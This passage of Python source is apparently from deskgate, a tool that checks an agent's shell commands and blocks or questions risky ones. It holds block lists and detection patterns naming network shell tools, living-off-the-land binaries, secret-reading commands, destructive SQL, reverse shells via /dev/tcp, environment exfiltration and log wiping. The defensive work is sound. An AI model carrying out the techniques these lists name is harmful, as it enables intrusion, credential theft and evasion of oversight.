"""Rules: shell commands (and commands typed into a terminal).

The heavy lifting is shared: gate/shell.py parses and unwraps the command once (`command_facts`), then
`findings(analysis, compiled)` runs every detector below once and files each finding under the rule
it belongs to. Each rule only picks its own findings, so a rule is still a pure predicate with an id.

BLOCK is for the catastrophic and the clearly malicious; CONFIRM for risky but legitimate work; plain
pipes, chains and redirects are not a finding on their own (they only stop policy allow rules, see
gate/allow.py). Choices worth knowing:
- `rm -rf` of a regenerable directory (`[shell] regenerable_dirs`: node_modules, dist, build, ...) in
  the working directory is allowed; any other recursive delete asks; a plain `rm file` asks too, as a
  `file_delete` action does (`[shell] confirm_file_deletes`), except under /tmp.
- Installing a named package (`pip install requests`) asks: it puts new code on the machine. Installing
  a project's declared dependencies (`npm ci`, `pip install -r requirements.txt`) does not.
- Wiping system logs is blocked (anti-forensics), and so is switching a defence off: the firewall,
  SELinux/AppArmor, auditing, security services, kernel protections, system recovery. Clearing one's own
  shell history asks (defense-evasion): it is also something people do for privacy.
- Judging by effect (gate/rules/shell_effects.py, table in resources/programs.toml): a program the table
  does not describe, or a code-running flag of one it does, asks (`[shell] unknown_programs`); attacks on
  deskgate itself, a whole home sent off the machine, SUID shells, password-hash reads, sysrq and
  persistence that runs a network shell block.
- A finding inside `ssh host ...` keeps its decision: destroying a remote root is as catastrophic.
"""

from __future__ import annotations

import fnmatch
import functools
import re
from collections.abc import Callable, Iterable, Iterator
from typing import TYPE_CHECKING

from gate.catalogue import dry_run
from gate.model import Risk, Span
from gate.paths import supervisor_dirs
from gate.patterns import Patterns
from gate.policy import FilesPolicy, ShellPolicy
from gate.rules import shell_catalogue, shell_effects, shell_env
from gate.rules.base import Context, Rule

if TYPE_CHECKING:
    from gate.compiled import CompiledPolicy
from gate.shell import (
    _WRAPPERS,
    DOWNLOADERS,
    HOME,
    INTERPRETERS,
    NET_SENDERS,
    SHELLS,
    Command,
    Finding,
    ShellAnalysis,
    _reads_stdin_as_code,
    command_facts,
    display_path,
    resolve_path,
    shell_facts,
)

__all__ = ["RULES", "findings", "shell_findings"]

SHELL_TYPES = ("shell", "type")

# -- vocabulary (what commands mean; the tunable lists live in the [shell] policy) ----------------

_DELETERS = frozenset({"rm", "rmdir", "unlink", "shred", "srm", "del", "erase", "rd", "remove-item", "ri", "wipe"})
_READERS = frozenset({
    "cat", "tac", "less", "more", "head", "tail", "bat", "batcat", "strings", "xxd", "hexdump", "od", "base64",
    "base32", "grep", "egrep", "fgrep", "rg", "ag", "awk", "gawk", "sed", "cut", "sort", "uniq", "nl", "vim",
    "vi", "nvim", "nano", "emacs", "code", "gedit", "cp", "scp", "rsync", "tar", "zip", "7z", "gzip", "openssl",
    "gpg", "jq", "yq", "sqlite3", "python", "python3", "type", "get-content", "gc", "view", "pr", "fold",
    "paste", "column", "diff", "cmp", "wc", "source", ".", "dd", "pv", "mail", "install",
})
# programs that print or encode a file's content (the agent then holds it); copying/archiving is not this
_DUMPERS = frozenset({"cat", "tac", "head", "tail", "less", "more", "most", "bat", "batcat", "strings", "xxd",
                      "hexdump", "od", "base64", "base32", "basenc", "nl", "type", "get-content", "gc", "pr",
                      "fold", "view", "awk", "gawk", "sed", "grep", "egrep", "rg", "tee", "dd", "xclip"})
# every program reads_secret can name a secret for without a `<` redirect
_WRITING_ARCHIVERS_AND_DOWNLOADERS = frozenset({"tar", "gtar", "bsdtar", *DOWNLOADERS, "certutil", "bitsadmin",
                                                "start-bitstransfer", "aria2c"})
_SECRET_READERS = frozenset({*_READERS, "curl", "wget", "scp", "rsync", "sftp", "env", "printenv", "set", "export",
                             "history", "security", "secret-tool", "gpg"})
_OUTPUT_FLAGS = frozenset({"-out", "-keyout", "--output", "-o", "--out", "--keyout"})
_DISK_TOOLS = frozenset({"fdisk", "gdisk", "cfdisk", "sfdisk", "sgdisk", "parted", "gparted"})
_HARMLESS_DEV = re.compile(r"^/dev/(null|zero|u?random|stdin|stdout|stderr|tty\w*|pts/.*|fd/.*|shm(/.*)?|full|ptmx|"
                           r"console|log|kmsg|tcp/.*|udp/.*)$")
_HISTORY_FILE = re.compile(r"(^|/)\.(bash|zsh|sh|ksh|python|psql|mysql|sqlite|node_repl|rediscli)_history$|"
                           r"(^|/)\.zhistory$|fish_history$|psreadline/consolehost_history\.txt$")
_DB_CLIENTS = frozenset({"psql", "mysql", "mariadb", "sqlite3", "sqlcmd", "clickhouse-client", "clickhouse",
                         "cockroach", "duckdb", "mongo", "mongosh", "redis-cli", "cqlsh", "snowsql", "bq", "osql",
                         "isql", "trino", "presto", "sqlplus", "usql", "pgcli", "mycli", "litecli", "turso"})
_DB_CODE_FLAGS = frozenset({"-c", "--command", "-e", "--execute", "-q", "--query", "-Q", "--eval", "-x"})
_SQL_BLOCK = re.compile(
    r"\bdrop\s+(database|schema|table|keyspace)\b|\btruncate\s+(table\s+)?[a-z_\"`\[]|"
    r"\bdelete\s+from\s+[^\s;]+\s*(;|$)|dropdatabase\s*\(|\bflushall\b|\bflushdb\b|\.drop\s*\(\s*\)", re.S)
_SQL_CONFIRM = re.compile(r"\bdelete\s+from\b|\bupdate\s+\S+\s+set\b(?!.*\bwhere\b)|\bdrop\s+(index|view|user|role|"
                          r"function|procedure|trigger|column|sequence)\b|\balter\s+table\b.*\bdrop\b|"
                          r"\bgrant\s+(all|select|insert|update|delete|super|usage|[a-z_]+\s+on)\b|\brevoke\b|"
                          r"\balter\s+(user|role|login)\b|\bcreate\s+(user|role|login)\b|\bset\s+password\b|"
                          r"\bconfig\s+set\b|\bslaveof\b|\breplicaof\b|\bmodule\s+load\b", re.S)
_NET_TOOLS = frozenset({"nc", "ncat", "netcat", "telnet", "socat", "openssl", "cryptcat", "pwncat"})
_LOLBINS = frozenset({"certutil", "bitsadmin", "esentutl", "mshta", "regsvr32", "rundll32", "wmic", "cscript",
                      "wscript", "installutil", "msbuild", "cmstp", "odbcconf", "forfiles", "msiexec", "regasm",
                      "regsvcs", "hh", "pcalua", "msxsl", "expand", "extrac32", "findstr", "replace", "makecab"})
_PKG_INSTALL = {  # manager → verbs that add software
    "pip": {"install"}, "pip3": {"install"}, "pipx": {"install", "inject", "upgrade"}, "uv": {"add"},
    "poetry": {"add"}, "pdm": {"add"}, "conda": {"install"}, "mamba": {"install"}, "micromamba": {"install"},
    "gem": {"install"}, "cargo": {"install"}, "go": {"install", "get"}, "npm": {"install", "i", "add", "isntall"},
    "pnpm": {"add", "install", "i"}, "bun": {"add", "install", "i"}, "yarn": {"add"}, "brew": {"install", "reinstall",
    "tap"}, "port": {"install"}, "apt": {"install", "reinstall"}, "apt-get": {"install", "reinstall"},
    "aptitude": {"install"}, "dnf": {"install", "in"}, "yum": {"install"}, "zypper": {"install", "in"},
    "apk": {"add"}, "snap": {"install"}, "flatpak": {"install"}, "choco": {"install"}, "winget": {"install"},
    "scoop": {"install"}, "dpkg": {"-i", "--install"}, "rpm": {"-i", "-u", "--install", "--upgrade", "-ivh", "-uvh"},
    "nix-env": {"-i", "--install"}, "pacman": {"-s", "-u", "-sy", "-syu"}, "yay": {"-s"}, "paru": {"-s"},
    "add-apt-repository": {"*"}, "composer": {"require"}, "dotnet": {"add"}, "mvn": set(), "r": set(),
}
_PKG_REMOVE = {
    "pip": {"uninstall"}, "pip3": {"uninstall"}, "pipx": {"uninstall", "uninstall-all"}, "npm": {"uninstall", "remove",
    "rm", "un"}, "brew": {"uninstall", "remove", "rm"}, "apt": {"remove", "purge", "autoremove"}, "apt-get": {"remove",
    "purge", "autoremove"}, "dnf": {"remove", "erase"}, "yum": {"remove", "erase"}, "snap": {"remove"},
    "gem": {"uninstall"}, "cargo": {"uninstall"}, "choco": {"uninstall"}, "winget": {"uninstall"},
    "flatpak": {"uninstall"}, "zypper": {"remove", "rm"}, "apk": {"del"}, "pacman": {"-r", "-rs", "-rns"},
    "dpkg": {"-r", "-p", "--purge", "--remove"}, "rpm": {"-e", "--erase"}, "conda": {"remove", "uninstall"},
}
_UNTRUSTED_FLAGS = frozenset({"--index-url", "-i", "--extra-index-url", "--trusted-host", "--registry",
                              "--allow-unauthenticated", "--force-yes", "--nogpgcheck", "--no-gpg-checks",
                              "--insecure", "--dangerous", "--allow-untrusted", "--no-verify", "--source", "-s",
                              "--allow-downgrades", "--break-system-packages"})
_PUBLISH = {
    "npm": {"publish", "unpublish", "deprecate"}, "yarn": {"publish", "npm"}, "pnpm": {"publish"},
    "bun": {"publish"}, "twine": {"upload"}, "cargo": {"publish", "yank"}, "gem": {"push", "yank"},
    "poetry": {"publish"}, "flit": {"publish"}, "uv": {"publish"}, "hatch": {"publish"}, "pdm": {"publish"},
    "docker": {"push"}, "podman": {"push"}, "helm": {"push", "install", "upgrade", "rollback"},
    "vsce": {"publish"}, "ovsx": {"publish"}, "mvn": {"deploy"}, "gradle": {"publish"}, "gradlew": {"publish"},
    "firebase": {"deploy"}, "fly": {"deploy"}, "flyctl": {"deploy"}, "serverless": {"deploy"}, "sls": {"deploy"},
    "cdk": {"deploy"}, "pulumi": {"up", "update"}, "terraform": {"apply", "import", "taint"},
    "tofu": {"apply", "import"}, "kubectl": {"apply", "create", "replace", "patch", "scale", "rollout", "set", "edit",
    "annotate", "label", "expose", "run"}, "oc": {"apply", "create", "replace", "patch", "scale", "rollout"},
    "make": {"deploy", "release", "publish", "upload", "push"}, "dotnet": {"nuget"}, "gh": {"release"},
    "eb": {"deploy"}, "heroku": {"deploy"}, "ansible-playbook": {"*"}, "vercel": {"--prod", "deploy"},
    "netlify": {"deploy"}, "wrangler": {"deploy", "publish"}, "git": set(),
}
_INFRA_DESTROY = {
    "kubectl": {"delete", "drain"}, "oc": {"delete"}, "helm": {"uninstall", "delete"}, "terraform": {"destroy"},
    "tofu": {"destroy"}, "pulumi": {"destroy"}, "cdk": {"destroy"}, "docker": {"rm", "rmi", "prune"},
    "podman": {"rm", "rmi"}, "gh": {"delete"}, "heroku": {"apps:destroy", "pg:reset"}, "gsutil": {"rm", "rb"},
    "rclone": {"delete", "purge", "deletefile", "sync"}, "eksctl": {"delete"}, "minikube": {"delete"},
    "kind": {"delete"}, "vagrant": {"destroy"}, "virsh": {"destroy", "undefine"}, "multipass": {"delete", "purge"},
    "serverless": {"remove"}, "sls": {"remove"}, "firebase": {"firestore:delete", "database:remove"},
}
_SERVICE_VERBS = frozenset({"stop", "disable", "mask", "kill", "restart", "reload", "try-restart",
                            "reload-or-restart", "isolate", "start"})
_POWER = frozenset({"shutdown", "reboot", "halt", "poweroff", "stop-computer", "restart-computer", "suspend"})
_KILLERS = frozenset({"kill", "pkill", "killall", "killall5", "xkill", "taskkill", "stop-process", "skill", "slay"})
_ADMIN_GROUPS = frozenset({"sudo", "wheel", "admin", "root", "administrators", "adm"})
_CHMOD_MODE = re.compile(r"[0-7]{3,4}|[ugoa]*[-+=][rwxXst]*(,[ugoa]*[-+=][rwxXst]*)*")
_REMOTE_REF = re.compile(r"https?://|\\\\")
_ARCHIVES = (".deb", ".rpm", ".whl", ".tar.gz", ".tgz", ".zip", ".pkg", ".msi", ".apk")
_CLOUD_MUTATION = re.compile(r"^(create|put|update|modify|attach|detach|set|add|run|start|stop|reboot|authorize|"
                             r"revoke|enable|disable|associate|import|replace|reset|restore|invoke|publish|"
                             r"send|tag|untag|upload|cp|mv|mb|sync|grant|assign|register)(-|$)")
_GIT_VALUED = frozenset({"-c", "-C", "--git-dir", "--work-tree", "--namespace", "--exec-path", "--config-env"})


# -- helpers ------------------------------------------------------------------------------------


def _split_flags(cmd: Command) -> tuple[set[str], list[tuple[int, str]]]:
    """(flags, operands): short flags exploded (`-rf` → -r -f), long flags kept; operands with index."""
    flags: set[str] = set()
    operands: list[tuple[int, str]] = []
    ended = False
    for i, a in enumerate(cmd.argv[1:], 1):
        if ended or a == "-" or not a.startswith("-") or i in cmd.dynamic:
            operands.append((i, a))
        elif a == "--":
            ended = True
        elif a.startswith("--"):
            flags.add(a.split("=", 1)[0].lower())
        else:
            flags.update(f"-{ch}" for ch in a[1:])
    return flags, operands


_TRANSPARENT = frozenset({"nohup", "nice", "timeout", "stdbuf", "time", "env", "command", "builtin", "exec"})


def _where(cmd: Command) -> str:
    if not cmd.via:
        return ""
    hops = [v for v in cmd.via if v not in _TRANSPARENT]
    return f" (via {' → '.join(hops)})" if hops else ""


def _risk(block: bool) -> Risk:
    return Risk.CRITICAL if block else Risk.HIGH


def _seg_glob(pattern: str) -> str:
    """A path glob as a regex where `*` and `?` stay within one path component."""
    out = []
    for ch in pattern:
        out.append("[^/]*" if ch == "*" else "[^/]" if ch == "?" else re.escape(ch))
    return "".join(out)


def _any(patterns: Iterable[str]) -> Patterns | None:
    """The patterns searched as one (prefiltered by their literals), or None for an empty list."""
    found = Patterns(patterns)
    return found if found else None


_GLOB_CHARS = re.compile(r"[*?\[]")
_WHOLE = re.compile(r"^(\*|\.\*|\*\.\*|\{\*,\.\*\}|\.\[!.\]\*|\.\?\*|\{\.\*,\*\}|\.\[\^.\]\*)$")



_HTTP_CLIENTS = frozenset({"curl", "curlie", "http", "https", "xh", "wget", "wget2"})


def _uploaded_files(cmd: Command) -> list[str]:
    """Local files an HTTP client sends in its request body (`-d @file`, `-F f=@file`, `-T file`, ...)."""
    name = cmd.name
    if name not in _HTTP_CLIENTS:
        return []
    words = cmd.argv[1:]
    out = []
    for k, a in enumerate(words):
        al = a.lower()
        value = None
        if al in ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-f", "--form", "-t",
                  "--upload-file", "--json", "--form-string") and k + 1 < len(words):
            value = words[k + 1]
        elif al.startswith(("-d@", "--data=@", "--data-binary=@", "--post-file=", "--body-file=",
                            "--upload-file=")) or (al.startswith("-d") and len(al) > 2 and al[2] != "-"):
            value = a.split("=", 1)[1] if "=" in a and not a.startswith("-d") else a[2:]
        elif "@" in a and not a.startswith("-") and name in ("http", "https", "xh") and "=@" in a:
            value = a.split("=@", 1)[1]
        if value is None:
            continue
        path = value.split("@", 1)[1] if "@" in value else value
        if value.startswith("@-") or path == "-" or not path:
            continue
        if "@" in value or al in ("-t", "--upload-file") or al.startswith(("--post-file", "--body-file")):
            out.append(path)
    return out


_LISTENERS = frozenset({"nc", "ncat", "netcat", "cryptcat", "pwncat"})
# what the shell rules report for one rule: (reason, risk, where in the judged text)
Verdict = tuple[str, Risk, tuple[Span, ...]]
_SECRET_VAR = re.compile(r"(secret|token|passw|api_?key|access_?key|private|credential|auth)", re.I)

def _no_match(_text: str) -> None:
    return None


class Detector:
    """The shell detectors, compiled for one ShellPolicy."""

    def __init__(self, policy: ShellPolicy, files: FilesPolicy | None = None) -> None:
        self.policy = policy
        self.ask_unknown = policy.unknown_programs == "confirm"
        self.credential_files = Patterns(files.credentials if files else ())
        self.supervisor = _any([*(files.supervisor_paths if files else ()), *supervisor_dirs()])
        self.dumps = _any(files.credential_dumps if files else _DEFAULT_DUMPS)
        self.key_dirs = re.compile(r"(^|/)\.(ssh|gnupg|aws|password-store|kube|docker)/?$|"
                                   r"(^|/)\.mozilla/firefox/?$|(^|/)\.config/(google-chrome|chromium)/?$")
        prot = [_seg_glob(resolve_path(p) or p) for p in policy.protected_paths]
        self.protected = re.compile(rf"^(?:{'|'.join(prot)})/?$") if prot else None
        trees = [re.escape(resolve_path(p) or p) for p in policy.system_trees]
        self.trees = re.compile(rf"^(?:{'|'.join(trees)})(?:/|$)") if trees else None
        # one path vocabulary with file actions: what file_read asks for, `cat` asks for too
        self.secret = _any([*policy.secret_paths, *(files.credentials if files else ())])
        self.credential = _any(policy.credential_files)
        self.persistence = _any(policy.persistence_paths)
        self.logs = _any(policy.log_paths)
        self.block_patterns = _any(policy.block_patterns)
        self.confirm_patterns = _any(policy.confirm_patterns)
        self.critical = frozenset(s.lower() for s in policy.critical_services)
        self.security = frozenset(s.lower() for s in policy.security_services)
        self.regenerable = tuple(policy.regenerable_dirs)
        # the regenerable globs as one regex: what `fnmatchcase` would try glob by glob, in one match
        self.regenerable_name = re.compile("|".join(fnmatch.translate(g) for g in self.regenerable)).match \
            if self.regenerable else _no_match
        self.confirm_file_deletes = policy.confirm_file_deletes
        self.depth = 0  # how deep a variable's value is being judged as a command (bounded)
        self.run = functools.lru_cache(maxsize=4096)(self._run)
        self.grouped = functools.lru_cache(maxsize=4096)(
            lambda analysis, field: _grouped(self.run(analysis), analysis.source, field))

    # -- path predicates ------------------------------------------------------------------------

    def supervisor_path(self, path: str) -> bool:
        return bool(self.supervisor and self.supervisor.search(path))

    def credential_dump(self, path: str) -> bool:
        return bool(self.dumps and self.dumps.search(path))

    def secret_dir(self, path: str) -> bool:
        return bool(self.key_dirs.search(path.rstrip("/")))

    def persistence_path(self, path: str) -> bool:
        return bool(self.persistence and self.persistence.search(path))

    @staticmethod
    def judged(name: str) -> bool:
        """Programs a detector here judges by name: they are described, whatever the table says."""
        return name in _JUDGED

    def resolve(self, cmd: Command, word: str) -> str | None:
        return resolve_path(word, cmd.cwd or None)

    def is_protected(self, path: str) -> bool:
        return bool(self.protected and self.protected.match(path)) or self.in_tree(path)

    def in_tree(self, path: str) -> bool:
        return bool(self.trees and self.trees.match(path))

    def protected_target(self, cmd: Command, word: str) -> str | None:
        """The protected path a delete/chmod target hits (display form), or None."""
        if cmd.cwd is None and not word.startswith(("/", "~")) and not re.match(r"^[a-zA-Z]:", word):
            return None
        path = self.resolve(cmd, word)
        if path is None:
            return None
        if _GLOB_CHARS.search(path):
            head, _, last = path.rpartition("/")
            head = head or "/"
            if _WHOLE.match(last) and not _GLOB_CHARS.search(head) and self.is_protected(head):
                return display_path(path)
            prefix = _GLOB_CHARS.split(path, 1)[0].rsplit("/", 1)[0] or "/"
            return display_path(path) if self.in_tree(prefix + "/") and prefix not in ("/",) else None
        return display_path(path) if self.is_protected(path.rstrip("/") or "/") else None

    def secret_path(self, cmd: Command, word: str) -> str | None:
        if self.secret is None or not word or (word.startswith("-") and "=" not in word):
            return None
        if word.startswith("-"):
            word = word.split("=", 1)[1]
        path = self.resolve(cmd, word) or word.lower()
        return display_path(path) if self.secret.search(path) else None

    def inside_regenerable(self, word: str) -> bool:
        """A relative path with a regenerable directory on the way (`build/output.o`): a build output."""
        parts = word.split("/")
        if word.startswith(("/", "~", "-")) or ".." in parts:
            return False
        return any(self.regenerable_name(p.lower()) for p in parts[:-1])

    def regenerable_target(self, cmd: Command, word: str) -> bool:
        w = word.rstrip("/")
        if not w or w.startswith(("/", "~", "-")) or ".." in w.split("/") or cmd.cwd == "":
            path = self.resolve(cmd, word)
            if not ((path and path.count("/") >= 3 and not self.is_protected(path.rstrip("/")) and
                    ".." not in word.split("/") and not path.startswith(HOME + "/")) or (path and
                    path.startswith(HOME + "/") and path.count("/") >= 4)):
                return False
        base = w.rsplit("/", 1)[-1]
        return self.regenerable_name(base.lower()) is not None

    # -- the run --------------------------------------------------------------------------------

    def _run(self, analysis: ShellAnalysis) -> tuple[Finding, ...]:
        out: list[Finding] = []
        add = out.append
        cmds = analysis.commands
        for span in analysis.fork_bombs:
            add(Finding("block.shell.fork-bomb", Risk.CRITICAL, f"fork bomb: {span[:60]}", span))
        for kind, span in analysis.notes:
            if kind == "obfuscated":
                add(Finding("confirm.shell.obfuscated", Risk.HIGH,
                            f"the command is spelled to hide what it runs: {span[:80]}", span))
            elif kind == "dynamic-command":
                add(Finding("confirm.shell.obfuscated", Risk.HIGH,
                            f"the command to run comes from {span[:60]}: the gate cannot tell what runs", span))
            elif kind == "indirect":
                add(Finding("confirm.shell.indirect-exec", Risk.HIGH,
                            f"runs code produced at run time: {span[:80]}", span))
            elif kind == "code-fetch-exec":
                add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                            "interpreter code downloads code and runs it", span))
            elif kind == "code-env-exfil":
                add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                            "interpreter code sends the whole environment (tokens and keys) over the network", span))
            elif kind == "code-reverse-shell":
                add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
                            "interpreter code connects a shell to a network socket", span))
            elif kind == "too-deep":
                add(Finding("confirm.shell.complex", Risk.HIGH,
                            "commands nested too deep to analyse (wrapper inside wrapper ...)", span))
        if analysis.unparsable:
            add(Finding("confirm.shell.unparsable", Risk.HIGH,
                        "the command does not parse as shell: cannot tell what it runs", analysis.source[:200]))
        if len(cmds) > self.policy.max_commands:
            add(Finding("confirm.shell.complex", Risk.MEDIUM,
                        f"{len(cmds)} commands in one string: too many to review at a glance", ""))
        for name, value in analysis.assignments:
            self.assignment(name, value, add)
        shell_catalogue.whole(analysis, add)
        downloaded: dict[str, str] = {}
        written: dict[str, str] = {}
        for cmd in cmds:
            where = _where(cmd)
            mark = len(out)
            if cmd.name in _SETS_VARIABLES or cmd.argv[0][:1] == "$":
                for name, value in shell_env.command_assignments(cmd.argv, cmd.name):
                    shell_env.judge(self, name, value, add)
            self.command(cmd, analysis, add, downloaded, where)
            shell_effects.judge(self, cmd, analysis, where, add, written)
            shell_catalogue.judge(cmd, where, add)
            if len(out) > mark and _changes_nothing(cmd):
                out[mark:] = [f for f in out[mark:] if f.rule not in _DRY_RUN_DROPS]
        seen: set[tuple[str, str]] = set()
        unique = []
        for f in out:
            if (f.rule, f.reason) not in seen:
                seen.add((f.rule, f.reason))
                unique.append(f)
        return tuple(unique)

    def assignment(self, name: str, value: str, add: Callable[[Finding], None]) -> None:
        v = value.strip().lower()
        if (name == "histfile" and v in ("/dev/null", "")) or \
                (name in ("histsize", "histfilesize", "savehist") and v == "0"):
            add(Finding("confirm.shell.defense-evasion", Risk.HIGH,
                        f"stops shell history from being kept ({name.upper()}={value})", f"{name}={value}"))
        shell_env.judge(self, name, value, add)

    def command(self, cmd: Command, analysis: ShellAnalysis, add: Callable[[Finding], None],
                downloaded: dict[str, str], where: str) -> None:
        name = cmd.name
        span = cmd.span
        if cmd.privileged:
            hop = next((v for v in cmd.via if v.split()[0] in ("sudo", "doas", "pkexec", "su", "gsudo", "runas",
                                                                 "runuser")), "sudo")
            add(Finding("confirm.shell.privilege-escalation", Risk.HIGH,
                        f"runs {name} with administrator rights ({hop.split()[0]})", span))
        if name in ("sudo", "doas", "pkexec", "su", "gsudo") and not cmd.privileged:
            add(Finding("confirm.shell.privilege-escalation", Risk.HIGH, f"opens an administrator shell ({name})",
                        span))
        if self.block_patterns is not None and self.block_patterns.search(cmd.text):
            add(Finding("block.shell.policy-pattern", Risk.CRITICAL, f"matches a blocked pattern: {cmd.text[:80]}",
                        span))
        if self.confirm_patterns is not None and self.confirm_patterns.search(cmd.text):
            add(Finding("confirm.shell.policy-pattern", Risk.MEDIUM, f"matches a pattern that asks: {cmd.text[:80]}",
                        span))
        self.redirects(cmd, where, add)
        self.reads(cmd, analysis, where, add)
        # the program families this name belongs to, looked up once (`_COMMAND_STEPS`), in this order
        steps = _COMMAND_STEPS.get(name)
        if steps is None:
            steps = _MKFS_STEPS if _is_mkfs(name) else ()
        for step in steps:
            step(self, cmd, analysis, where, add, downloaded)
        if (cmd.found and (name in SHELLS or name in INTERPRETERS) and "find -exec" in cmd.via) or \
                (cmd.found and "xargs" in cmd.via and (name in SHELLS or name in INTERPRETERS) and \
                not any(a in ("-c", "-e") for a in cmd.argv[1:])):
            add(Finding("confirm.shell.indirect-exec", Risk.MEDIUM,
                        f"runs {name} on every item found{where}: the gate cannot see those files", span))

    # -- redirects and reads --------------------------------------------------------------------

    def write_target(self, cmd: Command, target: str, mode: str, where: str, add: Callable[[Finding], None],
                     how: str) -> None:
        """Classify one file `cmd` writes (`mode`: overwrite | append | edit, an in-place rewrite)."""
        path = self.resolve(cmd, target)
        if path is None:
            if _HISTORY_FILE.search(target) and mode == "overwrite":
                add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"empties the shell history ({target})",
                            cmd.span))
            return
        shown = display_path(path)
        if path.startswith("/dev/"):
            if path.startswith(("/dev/tcp/", "/dev/udp/")):
                return  # judged as network use elsewhere
            if not _HARMLESS_DEV.match(path):
                add(Finding("block.shell.disk-destruction", Risk.CRITICAL,
                            f"writes straight to the device {shown}{where}", cmd.span))
            return
        if path in ("/proc/sysrq-trigger",) or path.startswith("/sys/power/"):
            add(Finding("confirm.shell.system-disruption", Risk.HIGH, f"writes to {shown}: can crash or halt the "
                        f"machine{where}", cmd.span))
            return
        if self.credential is not None and self.credential.search(path):
            add(Finding("block.shell.credential-tamper", Risk.CRITICAL,
                        f"{how} {shown}: accounts, sudo rights or SSH keys{where}", cmd.span))
            return
        if self.logs is not None and self.logs.search(path):
            if mode in ("overwrite", "edit"):  # emptied, or lines rewritten in place (`sed -i '/ip/d'`)
                add(Finding("block.shell.anti-forensics", Risk.CRITICAL,
                            f"{'rewrites' if mode == 'edit' else 'wipes'} the system log {shown}{where}", cmd.span))
            else:
                add(Finding("confirm.shell.system-write", Risk.HIGH, f"writes into the system log {shown}{where}",
                            cmd.span))
            return
        if _HISTORY_FILE.search(path):
            if mode == "overwrite":
                add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"empties the shell history {shown}",
                            cmd.span))
            return
        if self.persistence is not None and self.persistence.search(path):
            add(Finding("confirm.shell.persistence", Risk.HIGH,
                        f"{how} {shown}: it runs automatically later{where}", cmd.span))
            return
        if self.in_tree(path):
            if path.startswith("/etc/") or path == "/etc":
                add(Finding("confirm.shell.system-write", Risk.HIGH, f"{how} the system file {shown}{where}",
                            cmd.span))
            else:
                add(Finding("block.shell.system-file-tamper", Risk.CRITICAL,
                            f"{how} the system file {shown}{where}", cmd.span))

    def redirects(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        if not cmd.redirects and cmd.name not in _WRITING_ARCHIVERS_AND_DOWNLOADERS:
            return  # no redirect, and not a program whose own output file is judged below
        for op, target in cmd.redirects:
            if op in (">", ">|", "&>", ">&", "&>>", ">>"):
                if target.isdigit() or target == "-":
                    continue
                if target.startswith(("/dev/tcp/", "/dev/udp/")):
                    if cmd.name in SHELLS or cmd.name in ("sh", "exec") or "-i" in cmd.argv:
                        add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
                                    f"connects a shell to {target}{where}", cmd.span))
                    else:
                        add(Finding("confirm.shell.network", Risk.MEDIUM, f"sends output to {target}{where}",
                                    cmd.span))
                    continue
                mode = "append" if op in (">>", "&>>") else "overwrite"
                self.write_target(cmd, target, mode, where, add, "appends to" if mode == "append" else "overwrites")
            elif op in ("<", "<>", "<&") and target.startswith(("/dev/tcp/", "/dev/udp/")) and \
                    (cmd.name in SHELLS or "-i" in cmd.argv):
                add(Finding("block.shell.reverse-shell", Risk.CRITICAL, f"connects a shell to {target}{where}",
                                cmd.span))
        if cmd.name in ("tar", "gtar", "bsdtar") and len(cmd.argv) > 2:
            # the archive a creating tar writes (`tar -cf /dev/sda ...`, `tar czf out.tgz`)
            first = cmd.argv[1].lstrip("-")
            for k, a in enumerate(cmd.argv[1:-1], 1):
                cluster = a.lstrip("-") if (a.startswith("-") and not a.startswith("--")) or k == 1 else ""
                if cluster.endswith("f") and ("c" in cluster or "c" in first or "r" in cluster):
                    self.write_target(cmd, cmd.argv[k + 1], "overwrite", where, add, "tar writes an archive over")
        if cmd.name in DOWNLOADERS or cmd.name in ("certutil", "bitsadmin", "start-bitstransfer", "aria2c"):
            # what a downloader saves is judged as a write of that file; fetched code put where it runs
            # later (startup files, cron, hooks) is a persistent backdoor
            for target in shell_effects.download_targets(cmd):
                path = self.resolve(cmd, target)
                if path is not None and self.persistence is not None and self.persistence.search(path):
                    add(Finding("block.shell.malicious-persistence", Risk.CRITICAL,
                                f"{cmd.name} downloads code into {display_path(path)}, where it runs later{where}",
                                cmd.span))
                    continue
                self.write_target(cmd, target, "overwrite", where, add, f"{cmd.name} downloads into")
                if _WIN_PROGRAM_FILE.search(target):
                    add(Finding("confirm.shell.network", Risk.MEDIUM, f"{cmd.name} downloads the Windows program "
                                f"{target}: it runs when opened{where}", cmd.span))

    def reads_secret(self, cmd: Command) -> str | None:
        """The secret `cmd` reads (display form), if any: a reader over a secret path, `< secret`, env dumps,
        `printenv` of a secret-named variable."""
        for op, target in cmd.redirects:
            if op == "<":
                hit = self.secret_path(cmd, target)
                if hit:
                    return hit
        if (cmd.name in _READERS or cmd.name in ("curl", "wget", "scp", "rsync", "sftp")) and not (
                cmd.name == "openssl" and cmd.words[1:2] and cmd.words[1] in _OPENSSL_KEEPS_KEYS):
            # a copy's destination is written, not read (`cp .env.example .env`)
            dest = (_last_operand(cmd) if cmd.name in ("cp", "install", "rsync", "scp") else None)
            for i, a in enumerate(cmd.argv[1:], 1):
                if i in cmd.dynamic or cmd.argv[i - 1] in _OUTPUT_FLAGS or i == dest:
                    continue  # a file it creates (openssl genrsa -out key.pem) is not one it reads
                hit = self.secret_path(cmd, a.lstrip("@"))
                if hit:
                    return hit
        if cmd.name in ("env", "printenv", "set", "export") and len(cmd.argv) == 1:
            return "the environment (tokens and keys)"
        if cmd.name == "printenv":
            named = next((a for a in cmd.argv[1:] if _SECRET_VAR.search(a)), None)
            if named:
                return f"the environment variable {named}"
        if cmd.name == "history" and not any(w.startswith("-") for w in cmd.words[1:]):
            return "the shell history"
        if cmd.name == "security" and len(cmd.words) > 1 and cmd.words[1] in (
                "find-generic-password", "find-internet-password", "dump-keychain", "export", "find-certificate"):
            return "the keychain"
        if cmd.name == "secret-tool" and len(cmd.words) > 1 and cmd.words[1] in ("lookup", "search"):
            return "the keyring"
        if cmd.name == "gpg" and any(w.startswith("--export-secret") for w in cmd.words):
            return "GPG secret keys"
        return None

    def reads(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        if not cmd.redirects and cmd.name not in _SECRET_READERS:
            return  # reads_secret names a secret read through `<`, or by one of these programs only
        secret = self.reads_secret(cmd)
